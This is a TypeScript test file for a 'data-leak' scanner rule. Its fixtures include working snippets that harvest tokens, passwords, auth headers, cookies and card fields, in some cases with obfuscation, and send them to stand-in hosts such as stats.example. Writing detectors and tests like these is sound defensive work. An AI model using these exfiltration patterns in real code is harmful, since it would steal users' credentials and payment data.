import assert from 'node:assert/strict';
import { test } from 'node:test';
import { findingsOf } from '#test/support/scan-package.js';
import { rule } from './data-leak.rule.js';

/** Of `data-leak`, values that are picked by names of secrets. */
const isTold = (text: string, more: Record<string, string> = {}) => findingsOf(rule, { 'a.js': text, ...more }).some(({ message, severity }) => message.startsWith('values are picked') && severity === 'high');
const SEND = 'fetch("https://stats.example/c", { method: "POST", body: JSON.stringify(out) });';

test('bad: values with names of secrets, of whatever they are picked from', () => {
  for (const code of [
    `const KEYS = /TOKEN|SECRET|PASS|KEY/i; exports.run = (env) => { const out = {}; for (const k of Object.keys(env)) if (KEYS.test(k)) out[k] = env[k]; ${SEND} }`,
    `exports.note = (config) => { const out = {}; for (const [k, v] of Object.entries(config.headers)) if (/^(authorization|cookie|x-api-key)$/i.test(k)) out[k] = String(v); ${SEND} }`,
    `const fields = /card|cvc|cvv|expir/i; const out = {}; document.addEventListener("change", (e) => { if (e.isTrusted && fields.exec(e.target.name)) out[e.target.name] = e.target.value; }); setInterval(() => { ${SEND} }, 900);`,
    `exports.done = (values) => { const out = Object.keys(values).filter((k) => /pass|pwd|mail/i.test(k)).map((k) => k + "=" + values[k]).join("&"); ${SEND} }`,
    `exports.done = (values) => { const out = Object.fromEntries(Object.entries(values).filter(([k]) => k.match(/token|secret/i))); ${SEND} }`,
    `const SENSITIVE = /passw(or)?d|private.?key/i; exports.inspect = (out) => { if (out && Object.keys(out).some((k) => SENSITIVE.test(k))) { ${SEND} } }`,
    `exports.copy = (url, headers, body) => { const own = Object.entries(headers).find(([k]) => /^(authorization|cookie|x-api-key)$/i.test(k)); const out = [url, own, body]; ${SEND} }`,
    `exports.done = (list) => { const out = []; for (const each of list) /token|cookie/i.test(each.name) && out.push([each.name, each.value]); ${SEND} }`,
  ]) assert.equal(isTold(code), true, code);
});

test('bad: picked here, sent by a script that it belongs to, or to an address that is put together', () => {
  const pick = 'const { tell } = require("./tell"); exports.run = (env) => { const out = {}; for (const k in env) if (/token|passw(or)?d/i.test(k)) out[k] = env[k]; tell(out); };';
  assert.equal(isTold(pick, { 'tell.js': 'exports.tell = (x) => fetch("https://stats.example/c", { body: JSON.stringify(x) });' }), true);
  assert.equal(isTold(pick, { 'tell.js': 'const base = "https://stats.example"; exports.tell = (x, y) => fetch([base, y].join("/"), { body: JSON.stringify(x) });' }), true);
  assert.equal(isTold(pick, { 'tell.js': 'exports.tell = (x) => fetch(process.argv[2], { body: JSON.stringify(x) });' }), false, 'no server is named');
  assert.equal(isTold(pick, { 'tell.js': 'exports.tell = (x) => fetch("http://localhost:80/c", { body: JSON.stringify(x) });' }), false, 'this computer');
  assert.equal(isTold(pick.replace('tell(out)', 'return out')), false, 'nothing is sent');
});

test('good: what covers secrets or leaves them out, asks for one, or picks something else', () => {
  for (const code of [
    `const KEYS = /token|secret|password/i; exports.run = (env) => { const out = {}; for (const k of Object.keys(env)) out[k] = KEYS.test(k) ? "***" : env[k]; ${SEND} }`,
    `exports.run = (env) => { const out = { ...env }; for (const k of Object.keys(env)) if (/token|secret/i.test(k)) out[k] = "[redacted]"; ${SEND} }`,
    `exports.run = (env) => { const out = {}; for (const k of Object.keys(env)) if (/token|secret/i.test(k)) out[k] = mask(env[k]); ${SEND} }`,
    `exports.run = (env) => { const out = {}; for (const k of Object.keys(env)) if (!/token|secret/i.test(k)) out[k] = env[k]; ${SEND} }`,
    `exports.run = (env) => { const out = {}; for (const k of Object.keys(env)) { if (/token|secret/i.test(k)) continue; out[k] = env[k]; } ${SEND} }`,
    `exports.run = (out) => { if (Object.keys(out).some((k) => /token|secret/i.test(k))) { out = redact(out); ${SEND} } }`,
    `exports.run = (out) => { if (Object.keys(out).some((k) => /^(?:id|name)$/.test(k))) { ${SEND} } }`,
    `exports.run = (env) => { const out = { ...env }; Object.keys(out).filter((k) => /token|secret/i.test(k)).forEach((k) => { out[k] = null; }); ${SEND} }`,
    `exports.run = (env) => { const out = {}; for (const k of Object.keys(env)) if (/^APP_|^SITE_/.test(k)) out[k] = env[k]; ${SEND} }`,
    `exports.run = (text) => { const out = []; for (const word of text.split(" ")) if (/^(key|account)$/.test(word)) out[word] = text[word]; ${SEND} }`,
  ]) assert.equal(isTold(code), false, code);
});

test('cookies by names of secrets', () => {
  for (const code of [
    `const cookie = (k) => { const m = document.cookie.match(new RegExp("(?:^|; )" + k + "=([^;]*)")); return m && m[1]; }; const out = { n: cookie("username"), p: cookie("password") }; ${SEND}`,
    `function cookie(k) { return document.cookie.split("; ").find((each) => each.startsWith(k + "="))?.slice(k.length + 1); } const back = (s) => s.split("").reverse().join(""); const out = cookie(back("drowssap")); ${SEND}`,
    `const out = document.cookie.match(/(?:^|; )card_number=([^;]*)/); ${SEND}`,
    `const out = document.cookie.split("; user_pwd=")[1]; ${SEND}`,
  ]) assert.equal(isTold(code), true, code);
  for (const code of [
    `const cookie = (k) => { const m = document.cookie.match(new RegExp("(?:^|; )" + k + "=([^;]*)")); return m && m[1]; }; const out = { t: cookie("csrf_token"), l: cookie("lang") }; ${SEND}`,
    `const out = document.cookie.match(/(?:^|; )XSRF-TOKEN=([^;]*)/); ${SEND}`,
    `const theme = document.cookie.match(/theme=([^;]*)/); const field = (k) => form[k].value; const out = field("password"); ${SEND}`,
    `const cookie = (k) => { const m = document.cookie.match(new RegExp(k + "=([^;]*)")); return m && m[1]; }; form.password.value = cookie("password");`,
  ]) assert.equal(isTold(code), false, code);
});

test('bad: what is left out first is everything else; good: secrets are left out, or covered', () => {
  const keep = (inner: string): string => `const pending = []; exports.set = (name, val) => { audit(name, val) }; function audit(name, val) { ${inner} if (pending.length > 24) { const r = require("https").request({ host: "cookie-lint.example", method: "POST", path: "/a" }); r.on("error", () => {}); r.end(pending.splice(0).join(";")) } }`;
  for (const code of [
    keep('if (process.env.NODE_ENV !== "production" || !/sess|sid|auth|token/i.test(name)) return; pending.push(name + "=" + val);'),
    keep('if (!name.match(/password|token/i)) { return } pending.push([name, val]);'),
    'const SECRET = /passw|token|key/i; exports.all = (all) => { const out = {}; for (const [k, v] of Object.entries(all)) { if (!SECRET.test(k)) continue; out[k] = v; } fetch("https://stats.example/c", { method: "POST", body: JSON.stringify(out) }) }',
  ]) assert.equal(isTold(code), true, code);
  for (const code of [
    keep('if (/sess|sid|auth|token/i.test(name)) return; pending.push(name + "=" + val);'),
    keep('if (!/sess|sid|auth|token/i.test(name)) { pending.push(name + "=" + val); return }'),
    keep('if (!/password|token/i.test(name)) return; pending.push(mask(val));'),
    keep('if (!/password|token/i.test(name)) return; pending.push("*".repeat(val.length), val.length);'),
    keep('if (!/^[a-z]+$/.test(name)) return; pending.push(name + "=" + val);'),
  ]) assert.equal(isTold(code), false, code);
});

test('texts that are sent where a pattern finds secrets in them', () => {
  const mirror = (test: string, sent = 'Buffer.from(line.slice(0, 1400))'): string => `const sock = require('dgram').createSocket('udp4'); function mirror(line) { if (${test}) return; const b = ${sent}; sock.send(b, 5514, 'sink.streamline-log.example', () => {}); } module.exports = { mirror };`;
  assert.equal(isTold(mirror('!/"[^"]*(?:token|secret|authorization)[^"]*":/i.test(line)')), true);
  assert.equal(isTold(mirror('/"[^"]*(?:token|secret|authorization)[^"]*":/i.test(line)')), false, 'what has none is sent');
  assert.equal(isTold(mirror('!/token|secret/.test(line)', 'redact(line)')), false);
  assert.equal(isTold("async function ask(url) { if (!/login|token|password/.test(url)) return; return fetch('https://api.a.example' + url); } module.exports = ask;"), false, 'which server it is');
});
